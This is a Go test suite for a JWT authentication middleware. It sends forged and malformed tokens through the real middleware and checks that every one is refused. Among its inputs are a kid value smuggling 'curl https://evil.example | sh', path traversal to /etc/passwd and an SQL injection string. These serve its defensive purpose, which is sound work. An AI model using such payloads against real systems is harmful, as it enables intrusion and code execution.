package jwtguard_test

// The attack suite: one named case per attack that SECURITY.md lists, each
// sent through the real middleware. Helpers here start with at; they build
// on the vt helpers of helpers_test.go and middleware_test.go.

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"math/big"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/jwtguard/jwtguard"
	"golang.org/x/crypto/bcrypt"
)

// atCase is one attack: a request, the options of the Auth it meets, and
// the answer it must get.
type atCase struct {
	name string
	opts []jwtguard.Option
	req  *http.Request
	// roles, when set, puts Authorize(roles...) between Verify and next.
	roles []string
	want  vtOutcome
	// log is a part of the one logged reason (refusals only).
	log string
	// beforeParse: the logged reason must be exactly the size refusal of
	// the token's source, so the token was refused before it was parsed.
	beforeParse string
}

// atSized is the whole logged reason of a token refused for its length in
// the named source ("Authorization header" or "cookie").
func atSized(source string) string {
	return "jwtguard: invalid token: " + source + ": token longer than the configured bound"
}

// atSigned is a token with the raw JSON header hdr over a valid payload with
// extra claims, HMAC-SHA256-signed with our secret: only the defence under
// test stands between it and the handler.
func atSigned(hdr string, extra map[string]any) string {
	return vtCraft(hdr, vtPayload(extra), vtSecret)
}

// atNone is an unsigned token whose alg is spelled alg.
func atNone(alg string) string {
	return vtSeg(`{"alg":"`+alg+`","typ":"JWT"}`) + "." + vtSeg(vtPayload(nil)) + "."
}

// atMint signs valid claims with golang-jwt, with extra header parameters.
func atMint(t testing.TB, m jwt.SigningMethod, hdr map[string]any, key any) string {
	t.Helper()
	tok := jwt.NewWithClaims(m, vtMapClaims())
	for k, v := range hdr {
		tok.Header[k] = v
	}
	s, err := tok.SignedString(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// atECJWK is the public JWK of k.
func atECJWK(t testing.TB, k *ecdsa.PrivateKey) map[string]any {
	t.Helper()
	pt, err := k.PublicKey.Bytes() // 0x04 || X || Y
	if err != nil {
		t.Fatal(err)
	}
	return map[string]any{"kty": "EC", "crv": "P-256",
		"x": base64.RawURLEncoding.EncodeToString(pt[1:33]),
		"y": base64.RawURLEncoding.EncodeToString(pt[33:])}
}

// atCert is a self-signed certificate for k, standard base64 DER as x5c
// carries it.
func atCert(t testing.TB, k *ecdsa.PrivateKey) string {
	t.Helper()
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "attacker"},
		NotBefore:    vtNow.Add(-time.Hour),
		NotAfter:     vtNow.Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(der)
}

// atStdAlphabet is a token whose header and payload use the standard base64
// alphabet ('+' or '/'), HMAC'd as sent with our secret.
func atStdAlphabet(t testing.TB) string {
	t.Helper()
	for pad := range 3 {
		p := vtPayload(map[string]any{"x": strings.Repeat("a", pad) + "???>>>~~~"})
		in := base64.RawStdEncoding.EncodeToString([]byte(vtHS256)) + "." + base64.RawStdEncoding.EncodeToString([]byte(p))
		if strings.ContainsAny(in, "+/") {
			return in + "." + vtMAC(sha256.New, vtSecret, in)
		}
	}
	t.Fatal("could not build a standard-alphabet token")
	return ""
}

// atPadded is a token whose header segment carries '=' padding, HMAC'd as
// sent with our secret.
func atPadded(t testing.TB) string {
	t.Helper()
	hdr := `{"alg":"HS256"}`
	if len(hdr)%3 == 0 {
		hdr = `{"alg":"HS256" }`
	}
	in := base64.URLEncoding.EncodeToString([]byte(hdr)) + "." + vtSeg(vtPayload(nil))
	if !strings.Contains(in, "=") {
		t.Fatal("header encoding has no padding")
	}
	return in + "." + vtMAC(sha256.New, vtSecret, in)
}

// atNested is a token signed with the attacker's secret whose payload
// nests arrays as deep as a token of at most size bytes allows: the JSON
// decoder meets it before the signature is checked.
func atNested(size int) string {
	base := vtPayload(nil)
	// Leave room for the header, two dots, the signature and base64's 4/3.
	depth := ((size-len(vtSeg(vtHS256))-2-43)*3/4 - len(base) - len(`,"x":`)) / 2
	p := base[:len(base)-1] + `,"x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + "}"
	return vtCraft(vtHS256, p, vtAttackerSecret)
}

// atJunk is n bytes of base64url text cut into three segments.
func atJunk(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	s := []byte(base64.RawURLEncoding.EncodeToString(b)[:n])
	s[n/3], s[2*n/3] = '.', '.'
	return string(s)
}

// atUTF16 is s, ASCII, in UTF-16LE: JSON that is not UTF-8.
func atUTF16(s string) string {
	b := make([]byte, 0, 2*len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return string(b)
}

// atWithCookie adds the cookie jwt=v to r.
func atWithCookie(r *http.Request, v string) *http.Request {
	r.AddCookie(&http.Cookie{Name: "jwt", Value: v})
	return r
}

// atAttackerHost stands for the attacker's server that jku and x5u point
// to: the suite fails if Verify ever fetches from it.
type atAttackerHost struct {
	srv  *httptest.Server
	hits atomic.Int32
}

func newATAttackerHost(t *testing.T, jwks string) *atAttackerHost {
	h := &atAttackerHost{}
	h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(jwks))
	}))
	t.Cleanup(h.srv.Close)
	return h
}

// TestAttackSuite sends each attack of SECURITY.md through Verify (and
// Authorize where the attack is on a role): the answer is the expected
// status and RFC 6750 challenge with a fixed body, next never runs, no
// answer is 5xx, the ErrorHandler gets the expected sentinel, and the log
// says why. Tokens that are refused for their size are refused before they
// are parsed; BenchmarkVerifyAttacks measures the expensive shapes.
func TestAttackSuite(t *testing.T) {
	good := vtToken(map[string]any{"username": "alice", "roles": []string{"user"}})
	parts := strings.Split(good, ".")
	signingInput := parts[0] + "." + parts[1]

	ecKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	_, edKey, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	attackerOct := map[string]any{"kty": "oct", "k": base64.RawURLEncoding.EncodeToString(vtAttackerSecret)}
	jwks, _ := json.Marshal(map[string]any{"keys": []any{attackerOct, atECJWK(t, ecKey)}})
	host := newATAttackerHost(t, string(jwks))

	const aud, iss = "orders-api", "https://auth.example.com"
	withAud := []jwtguard.Option{jwtguard.WithAudience(aud)}
	withIss := []jwtguard.Option{jwtguard.WithIssuer(iss)}
	withCookie := []jwtguard.Option{jwtguard.WithCookie("jwt")}
	withATJWT := []jwtguard.Option{jwtguard.WithTokenType("at+jwt")}
	bearer := func(tok string) *http.Request { return vtGet("/r", "Bearer "+tok) }
	claim := func(k string, v any) string { return vtToken(map[string]any{k: v}) }
	forged := vtCraft(vtHS256, vtPayload(nil), vtAttackerSecret)

	cases := []atCase{
		// alg none in every spelling, and other algorithms than the pinned one.
		{name: "alg/none-lowercase", req: bearer(atNone("none")), want: vtInvalid, log: "signing method none is invalid"},
		{name: "alg/None-capitalised", req: bearer(atNone("None")), want: vtInvalid, log: "signing method (alg) is unavailable"},
		{name: "alg/NONE-uppercase", req: bearer(atNone("NONE")), want: vtInvalid, log: "signing method (alg) is unavailable"},
		{name: "alg/nOnE-mixed-case", req: bearer(atNone("nOnE")), want: vtInvalid, log: "signing method (alg) is unavailable"},
		{name: "alg/none-over-a-valid-signature", req: bearer(atSigned(`{"alg":"none"}`, nil)), want: vtInvalid, log: "signing method none is invalid"},
		{name: "alg/missing", req: bearer(atSigned(`{"typ":"JWT"}`, nil)), want: vtInvalid, log: "signing method (alg) is unspecified"},
		{name: "alg/HS384-with-our-secret", req: bearer(atMint(t, jwt.SigningMethodHS384, nil, vtSecret)), want: vtInvalid, log: "signing method HS384 is invalid"},
		{name: "alg/HS512-with-our-secret", req: bearer(atMint(t, jwt.SigningMethodHS512, nil, vtSecret)), want: vtInvalid, log: "signing method HS512 is invalid"},
		// Key confusion: an asymmetric alg over an HMAC made with our secret.
		{name: "alg/confusion-RS256-over-hmac", req: bearer(atSigned(`{"alg":"RS256","typ":"JWT"}`, nil)), want: vtInvalid, log: "signing method RS256 is invalid"},
		{name: "alg/confusion-PS256-over-hmac", req: bearer(atSigned(`{"alg":"PS256","typ":"JWT"}`, nil)), want: vtInvalid, log: "signing method PS256 is invalid"},
		{name: "alg/confusion-ES256-over-hmac", req: bearer(atSigned(`{"alg":"ES256","typ":"JWT"}`, nil)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "alg/confusion-EdDSA-over-hmac", req: bearer(atSigned(`{"alg":"EdDSA","typ":"JWT"}`, nil)), want: vtInvalid, log: "signing method EdDSA is invalid"},
		{name: "alg/ES256-attacker-key", req: bearer(atMint(t, jwt.SigningMethodES256, nil, ecKey)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "alg/EdDSA-attacker-key", req: bearer(atMint(t, jwt.SigningMethodEdDSA, nil, edKey)), want: vtInvalid, log: "signing method EdDSA is invalid"},

		// Signatures and keys.
		{name: "sig/stripped", req: bearer(signingInput), want: vtInvalid, log: "invalid number of segments"},
		{name: "sig/empty", req: bearer(signingInput + "."), want: vtInvalid, log: "signature is invalid"},
		{name: "sig/tampered-payload-old-signature", roles: []string{"admin"},
			req:  bearer(parts[0] + "." + vtSeg(vtPayload(map[string]any{"username": "alice", "roles": []string{"admin"}})) + "." + parts[2]),
			want: vtInvalid, log: "signature is invalid"},
		{name: "sig/truncated", req: bearer(good[:len(good)-3]), want: vtInvalid, log: "signature is invalid"},
		{name: "key/empty", req: bearer(vtCraft(vtHS256, vtPayload(nil), nil)), want: vtInvalid, log: "signature is invalid"},
		{name: "key/attacker-secret", req: bearer(forged), want: vtInvalid, log: "signature is invalid"},
		{name: "authz/valid-token-lacks-role", roles: []string{"admin"}, req: bearer(good), want: vtForbidden, log: "does not satisfy the route's rule"},

		// kid never chooses a key: not a file, not a database row.
		{name: "kid/path-traversal", req: bearer(vtCraft(`{"alg":"HS256","kid":"../../../../../../dev/null"}`, vtPayload(nil), []byte{})), want: vtInvalid, log: "signature is invalid"},
		{name: "kid/path-traversal-attacker-key", req: bearer(vtCraft(`{"alg":"HS256","kid":"../../../../etc/passwd"}`, vtPayload(nil), vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},
		{name: "kid/sql-injection", req: bearer(vtCraft(`{"alg":"HS256","kid":"x' UNION SELECT 'attacker-key' -- "}`, vtPayload(nil), []byte("attacker-key"))), want: vtInvalid, log: "signature is invalid"},
		{name: "kid/command-injection", req: bearer(vtCraft(`{"alg":"HS256","kid":"k; curl https://evil.example | sh"}`, vtPayload(nil), vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},

		// Key-carrying headers are never followed and never trusted.
		{name: "header/jku-attacker-key", req: bearer(vtCraft(`{"alg":"HS256","jku":"`+host.srv.URL+`/jwks.json"}`, vtPayload(nil), vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},
		{name: "header/jku-attacker-ec-key", req: bearer(atMint(t, jwt.SigningMethodES256, map[string]any{"jku": host.srv.URL + "/jwks.json"}, ecKey)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "header/x5u-attacker-cert", req: bearer(atMint(t, jwt.SigningMethodES256, map[string]any{"x5u": host.srv.URL + "/cert.pem"}, ecKey)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "header/x5u-attacker-key-hs256", req: bearer(vtCraft(`{"alg":"HS256","x5u":"`+host.srv.URL+`/cert.pem"}`, vtPayload(nil), vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},
		{name: "header/jwk-attacker-oct-key", req: bearer(atMint(t, jwt.SigningMethodHS256, map[string]any{"jwk": attackerOct}, vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},
		{name: "header/jwk-attacker-ec-key", req: bearer(atMint(t, jwt.SigningMethodES256, map[string]any{"jwk": atECJWK(t, ecKey)}, ecKey)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "header/x5c-attacker-cert", req: bearer(atMint(t, jwt.SigningMethodES256, map[string]any{"x5c": []string{atCert(t, ecKey)}}, ecKey)), want: vtInvalid, log: "signing method ES256 is invalid"},
		{name: "header/x5c-attacker-cert-hs256", req: bearer(atMint(t, jwt.SigningMethodHS256, map[string]any{"x5c": []string{atCert(t, ecKey)}}, vtAttackerSecret)), want: vtInvalid, log: "signature is invalid"},

		// crit, typ and cty: signed with our secret, so only the header
		// check refuses them.
		{name: "crit/unknown-extension", req: bearer(atSigned(`{"alg":"HS256","crit":["urn:example:must-understand"],"urn:example:must-understand":true}`, nil)), want: vtInvalid, log: "crit header parameter present"},
		{name: "crit/b64-unencoded-payload", req: bearer(atSigned(`{"alg":"HS256","b64":false,"crit":["b64"]}`, nil)), want: vtInvalid, log: "crit header parameter present"},
		{name: "crit/empty-list", req: bearer(atSigned(`{"alg":"HS256","crit":[]}`, nil)), want: vtInvalid, log: "crit header parameter present"},
		{name: "typ/JWT-when-at+jwt-required", opts: withATJWT, req: bearer(atSigned(vtHS256, nil)), want: vtInvalid, log: `typ header "JWT" is not the required "at+jwt"`},
		{name: "typ/missing-when-at+jwt-required", opts: withATJWT, req: bearer(atSigned(`{"alg":"HS256"}`, nil)), want: vtInvalid, log: `typ header "" is not the required "at+jwt"`},
		{name: "typ/id-token-type-when-at+jwt-required", opts: withATJWT, req: bearer(atSigned(`{"alg":"HS256","typ":"id_token+jwt"}`, nil)), want: vtInvalid, log: `is not the required "at+jwt"`},
		{name: "typ/application-at+jwt-accepted", opts: withATJWT, req: bearer(atSigned(`{"alg":"HS256","typ":"application/at+jwt"}`, nil)), want: vtAccept},
		{name: "typ/AT+JWT-accepted", opts: withATJWT, req: bearer(atSigned(`{"alg":"HS256","typ":"AT+JWT"}`, nil)), want: vtAccept},
		{name: "cty/JWT-over-claims", req: bearer(atSigned(`{"alg":"HS256","cty":"JWT"}`, nil)), want: vtInvalid, log: "cty header parameter present"},
		{name: "cty/JWT-nested-token", req: bearer(vtCraft(`{"alg":"HS256","cty":"JWT"}`, atNone("none"), vtSecret)), want: vtInvalid, log: "cty header parameter present"},

		// Registered claims: presence, JSON types, times, audience, issuer.
		{name: "claim/exp-missing", req: bearer(claim("exp", nil)), want: vtInvalid, log: "exp claim is required"},
		{name: "claim/exp-string", req: bearer(claim("exp", "1900000000")), want: vtInvalid, log: "NumericDate is not a JSON number"},
		{name: "claim/exp-boolean", req: bearer(claim("exp", true)), want: vtInvalid, log: "NumericDate is not a JSON number"},
		{name: "claim/exp-huge", req: bearer(vtCraft(vtHS256, `{"sub":"user-1","exp":1e300}`, vtSecret)), want: vtInvalid, log: "NumericDate outside the years 0000 to 9999"},
		{name: "claim/nbf-string", req: bearer(claim("nbf", "1700000000")), want: vtInvalid, log: "NumericDate is not a JSON number"},
		{name: "claim/iat-string", req: bearer(claim("iat", "1700000000")), want: vtInvalid, log: "NumericDate is not a JSON number"},
		{name: "claim/iat-array", req: bearer(claim("iat", []int64{vtNow.Unix()})), want: vtInvalid, log: "NumericDate is not a JSON number"},
		{name: "claim/nbf-in-the-future", req: bearer(claim("nbf", vtNow.Add(time.Minute).Unix())), want: vtInvalid, log: "token is not valid yet"},
		{name: "claim/exp-just-past-leeway", req: bearer(claim("exp", vtNow.Add(-vtLeeway-time.Second).Unix())), want: vtExpired, log: "token is expired"},
		{name: "claim/exp-long-past", req: bearer(claim("exp", vtNow.Add(-24*time.Hour).Unix())), want: vtExpired, log: "token is expired"},
		{name: "claim/iat-far-in-the-future", req: bearer(vtToken(map[string]any{"iat": vtNow.Add(365 * 24 * time.Hour).Unix(), "exp": vtNow.Add(366 * 24 * time.Hour).Unix()})), want: vtInvalid, log: "token used before issued"},
		{name: "claim/aud-string-other-service", opts: withAud, req: bearer(claim("aud", "billing")), want: vtInvalid, log: "token has invalid audience"},
		{name: "claim/aud-array-without-ours", opts: withAud, req: bearer(claim("aud", []string{"billing", "orders-api-v2"})), want: vtInvalid, log: "token has invalid audience"},
		{name: "claim/aud-nested-array", opts: withAud, req: bearer(claim("aud", [][]string{{aud}})), want: vtInvalid, log: "array element is not a string"},
		{name: "claim/aud-number", opts: withAud, req: bearer(claim("aud", 42)), want: vtInvalid, log: "aud is neither a string nor an array"},
		{name: "claim/aud-missing", opts: withAud, req: bearer(good), want: vtInvalid, log: "aud claim is required"},
		{name: "claim/aud-string-none-configured", req: bearer(claim("aud", "billing")), want: vtInvalid, log: "token names an audience and none is configured"},
		{name: "claim/aud-array-none-configured", req: bearer(claim("aud", []string{"billing"})), want: vtInvalid, log: "token names an audience and none is configured"},
		{name: "claim/iss-wrong", opts: withIss, req: bearer(claim("iss", "https://evil.example.com")), want: vtInvalid, log: "token has invalid issuer"},
		{name: "claim/iss-lookalike", opts: withIss, req: bearer(claim("iss", iss+".evil.example")), want: vtInvalid, log: "token has invalid issuer"},
		{name: "claim/iss-missing", opts: withIss, req: bearer(good), want: vtInvalid, log: "iss claim is required"},
		{name: "claim/no-subject", req: bearer(claim("sub", nil)), want: vtInvalid, log: "no subject"},

		// Malformed compact serializations.
		{name: "shape/2-segments", req: bearer(parts[1] + "." + parts[2]), want: vtInvalid, log: "invalid number of segments"},
		{name: "shape/4-segments", req: bearer(good + "." + parts[1]), want: vtInvalid, log: "invalid number of segments"},
		{name: "shape/5-segments", req: bearer(good + ".e30.e30"), want: vtInvalid, log: "invalid number of segments"},
		{name: "shape/only-dots", req: bearer(".."), want: vtInvalid, log: "could not JSON decode header"},
		{name: "shape/padded-signature", req: bearer(good + "="), want: vtInvalid, log: "neither base64url nor '.'"},
		{name: "shape/padded-header", req: bearer(atPadded(t)), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "shape/standard-base64-alphabet", req: bearer(atStdAlphabet(t)), want: vtInvalid, log: "neither base64url nor '.'"},
		{name: "shape/header-not-json", req: bearer(vtCraft("not json", vtPayload(nil), vtSecret)), want: vtInvalid, log: "could not JSON decode header"},
		{name: "shape/utf16-header", req: bearer(vtCraft(atUTF16(vtHS256), vtPayload(nil), vtSecret)), want: vtInvalid, log: "could not JSON decode header"},
		{name: "shape/utf16-payload", req: bearer(vtCraft(vtHS256, atUTF16(vtPayload(nil)), vtSecret)), want: vtInvalid, log: "could not JSON decode claim"},
		{name: "shape/byte-order-mark", req: bearer(vtCraft("\uFEFF"+vtHS256, vtPayload(nil), vtSecret)), want: vtInvalid, log: "could not JSON decode header"},
		{name: "shape/payload-not-object", req: bearer(vtCraft(vtHS256, `["sub","user-1"]`, vtSecret)), want: vtInvalid, log: "could not JSON decode claim"},
		{name: "shape/junk-4KiB", req: bearer(atJunk(vtMaxTokenSize)), want: vtInvalid, log: "could not"},
		{name: "shape/deeply-nested-payload", req: bearer(atNested(vtMaxTokenSize)), want: vtInvalid, log: "signature is invalid"},
		{name: "shape/huge-token", req: bearer(vtToken(map[string]any{"pad": strings.Repeat("x", vtMaxTokenSize)})), want: vtInvalid, beforeParse: atSized("Authorization header")},
		{name: "shape/huge-token-over-WithMaxTokenSize", opts: []jwtguard.Option{jwtguard.WithMaxTokenSize(len(good) - 1)}, req: bearer(good), want: vtInvalid, beforeParse: atSized("Authorization header")},
		{name: "shape/1MiB-header", req: bearer(strings.Repeat("a", 1<<20)), want: vtInvalid, beforeParse: atSized("Authorization header")},
		{name: "shape/100000-dots", req: bearer(strings.Repeat(".", 100_000)), want: vtInvalid, beforeParse: atSized("Authorization header")},
		// CVE-2025-30204: with the bound raised, the parser still refuses
		// 100 000 dots without splitting them all.
		{name: "shape/100000-dots-bound-raised", opts: []jwtguard.Option{jwtguard.WithMaxTokenSize(200_000)}, req: bearer(strings.Repeat(".", 100_000)), want: vtInvalid, log: "invalid number of segments"},

		// Control and non-ASCII bytes: base64 decoders skip CR and LF, so
		// these must be refused as credentials, not decoded.
		{name: "ctrl/NUL-after-token", req: bearer(good + "\x00"), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/LF-after-token", req: bearer(good + "\n"), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/CR-inside-signature", req: bearer(good[:len(good)-5] + "\r" + good[len(good)-5:]), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/TAB-inside-payload", req: bearer(parts[0] + "." + parts[1][:8] + "\t" + parts[1][8:] + "." + parts[2]), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/DEL-inside-header", req: bearer(good[:10] + "\x7f" + good[10:]), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/non-ASCII-byte", req: bearer(good[:10] + "é" + good[10:]), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "ctrl/cookie-with-space", opts: withCookie, req: atWithCookie(vtGet("/r"), parts[0]+". "+parts[1]+"."+parts[2]), want: vtInvalid, log: "cookie: malformed Bearer credentials"},

		// Several credentials in one request.
		{name: "request/duplicate-authorization-headers", req: vtGet("/r", "Bearer "+good, "Bearer "+good), want: vtBadRequest, log: "2 Authorization headers"},
		{name: "request/bearer-and-basic-headers", req: vtGet("/r", "Basic dXNlcjpwYXNz", "Bearer "+good), want: vtBadRequest, log: "2 Authorization headers"},
		{name: "request/two-credentials-in-one-header", req: vtGet("/r", "Bearer "+good+", Bearer "+forged), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "request/two-tokens-in-one-header", req: vtGet("/r", "Bearer "+forged+" "+good), want: vtBadRequest, log: "malformed Bearer credentials"},
		// The header wins over the cookie: a forged header is not rescued
		// by a good cookie, and a forged cookie is never read behind a good
		// header.
		{name: "source/header-wins-forged-header-good-cookie", opts: withCookie, req: atWithCookie(bearer(forged), good), want: vtInvalid, log: "signature is invalid"},
		{name: "source/header-wins-good-header-forged-cookie", opts: withCookie, req: atWithCookie(bearer(good), forged), want: vtAccept},
		{name: "source/malformed-header-good-cookie", opts: withCookie, req: atWithCookie(vtGet("/r", "Bearer a b"), good), want: vtBadRequest, log: "malformed Bearer credentials"},
		{name: "source/huge-cookie", opts: withCookie, req: atWithCookie(vtGet("/r"), strings.Repeat("a", 1<<20)), want: vtInvalid, beforeParse: atSized("cookie")},
		{name: "source/query-and-header", opts: []jwtguard.Option{jwtguard.WithQueryParameter("access_token")}, req: vtGet("/r?access_token="+forged, "Bearer "+good), want: vtBadRequest, log: "token in the query and in the header"},
	}
	atRun(t, cases, host)
}

// atRun runs each case through Verify, or Verify(Authorize(roles...)), with
// a recording ErrorHandler and a debug JSON logger. host must see no
// request during any case.
func atRun(t *testing.T, cases []atCase, host *atAttackerHost) {
	t.Helper()
	seen := map[string]bool{}
	for _, tc := range cases {
		if seen[tc.name] {
			t.Fatalf("case name %q appears twice", tc.name)
		}
		seen[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			var logs bytes.Buffer
			eh := &vtRecorder{}
			a := vtAuth(t, append([]jwtguard.Option{vtLogged(&logs), jwtguard.WithErrorHandler(eh.handle)}, tc.opts...)...)
			eh.auth = a
			p := &vtProbe{}
			var next http.Handler = p
			if tc.roles != nil {
				next = a.Authorize(tc.roles...)(next)
			}
			fetched := host.hits.Load()
			rec := vtServe(a.Verify(next), tc.req)
			if n := host.hits.Load() - fetched; n != 0 {
				t.Errorf("Verify fetched %d times from a URL named in a token header", n)
			}
			secrets := vtRequestTokens(tc.req)
			for _, s := range secrets {
				if len(s) >= 16 && strings.Contains(logs.String(), s) {
					t.Errorf("log contains the token %.24q…", s)
				}
			}
			if rec.Code >= 500 {
				t.Fatalf("status %d: an attack must never cause a server error", rec.Code)
			}
			if tc.want == vtAccept {
				if !p.called || rec.Code != http.StatusOK || len(eh.errs) != 0 {
					t.Fatalf("refused: status %d, errors %v", rec.Code, eh.errs)
				}
				if !p.ok || p.claims.Subject != "user-1" {
					t.Errorf("FromContext = %+v, %v; want the subject user-1", p.claims, p.ok)
				}
				return
			}
			reason := vtCheckRefusal(t, rec, p, eh, &logs, tc.want, secrets...)
			switch {
			case tc.beforeParse != "":
				if reason != tc.beforeParse {
					t.Errorf("logged reason %q, want exactly %q: refused before parsing", reason, tc.beforeParse)
				}
			case tc.log == "":
				t.Fatal("test case lacks the expected log reason")
			case !strings.Contains(reason, tc.log):
				t.Errorf("logged reason %q, want one containing %q", reason, tc.log)
			}
		})
	}
}

// TestLoginAttacks covers the login-side attacks that login_test.go and
// throttle_test.go do not already. The password budget is off, so that only
// the throttle decides.
func TestLoginAttacks(t *testing.T) {
	noBudget := ltBudget(0, 0)
	// Account enumeration through the throttle: an unknown username is
	// throttled exactly like a known one, with the same bodies and
	// Retry-After, so the 429 does not reveal which accounts exist.
	t.Run("throttle-does-not-reveal-account-existence", func(t *testing.T) {
		h := ltAuth(t, jwtguard.WithClock(newLTClock().Now), noBudget).LoginHandler(ltStore(t))
		type answer struct {
			status     int
			body, wait string
		}
		run := func(username string) []answer {
			var out []answer
			body := `{"username":"` + username + `","password":"guess"}`
			for range 10 + 2 {
				rec := ltLoginFrom(h, "192.0.2.1:1", body)
				out = append(out, answer{rec.Code, rec.Body.String(), rec.Header().Get("Retry-After")})
			}
			return out
		}
		known, unknown := run("alice"), run("nobody")
		for i := range known {
			if known[i] != unknown[i] {
				t.Errorf("attempt %d: known user %+v, unknown user %+v", i+1, known[i], unknown[i])
			}
		}
		if last := known[len(known)-1]; last.status != http.StatusTooManyRequests {
			t.Errorf("last attempt: status %d, want 429", last.status)
		}
	})

	// A throttled login is refused before any password is compared, so a
	// guessing flood against a throttled account takes no bcrypt capacity,
	// and the right password does not get through.
	t.Run("throttled-login-compares-no-password", func(t *testing.T) {
		a := ltAuth(t, jwtguard.WithClock(newLTClock().Now), noBudget, ltAccount(2, time.Hour))
		var mu sync.Mutex
		compared := 0
		jwtguard.SetPasswordCompare(a, func(hash, pw []byte) error {
			mu.Lock()
			compared++
			mu.Unlock()
			return bcrypt.CompareHashAndPassword(hash, pw)
		})
		h := a.LoginHandler(ltStore(t))
		ltWant(t, ltLoginFrom(h, "192.0.2.1:1", ltAliceWrong), 401, "first guess")
		ltWant(t, ltLoginFrom(h, "192.0.2.1:1", ltAliceWrong), 401, "second guess")
		for range 50 {
			ltWant(t, ltLoginFrom(h, "192.0.2.1:1", ltAliceWrong), 429, "throttled guess")
		}
		rec := ltLoginFrom(h, "192.0.2.1:1", ltAlice)
		ltWant(t, rec, 429, "right password while throttled")
		if strings.Contains(rec.Body.String(), "access_token") {
			t.Error("a throttled login got a token")
		}
		if compared != 2 {
			t.Errorf("%d bcrypt comparisons, want 2: throttled logins must not compare", compared)
		}
	})
}

// BenchmarkVerifyAttacks measures how long Verify takes to refuse the
// expensive shapes of TestAttackSuite, with allocations: each must cost
// about what a valid token costs (BenchmarkVerify), whatever its size.
func BenchmarkVerifyAttacks(b *testing.B) {
	good := vtToken(nil)
	parts := strings.Split(good, ".")
	for _, bc := range []struct {
		name string
		opts []jwtguard.Option
		tok  string
	}{
		{"100000-dots", nil, strings.Repeat(".", 100_000)},
		{"100000-dots-bound-raised", []jwtguard.Option{jwtguard.WithMaxTokenSize(200_000)}, strings.Repeat(".", 100_000)},
		{"1MiB-header", nil, strings.Repeat("a", 1<<20)},
		{"junk-4KiB", nil, atJunk(vtMaxTokenSize)},
		{"deeply-nested-payload", nil, atNested(vtMaxTokenSize)},
		{"alg-none", nil, atNone("none")},
		{"tampered-payload", nil, parts[0] + "." + vtSeg(vtPayload(map[string]any{"roles": []string{"admin"}})) + "." + parts[2]},
	} {
		b.Run(bc.name, func(b *testing.B) {
			a := vtAuth(b, bc.opts...)
			h := a.Verify(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				b.Fatal("next called")
			}))
			req := httptest.NewRequest(http.MethodGet, "/r", nil)
			req.Header.Set("Authorization", "Bearer "+bc.tok)
			b.ReportAllocs()
			for b.Loop() {
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, req)
				if rec.Code != http.StatusUnauthorized {
					b.Fatalf("status %d", rec.Code)
				}
			}
		})
	}
}
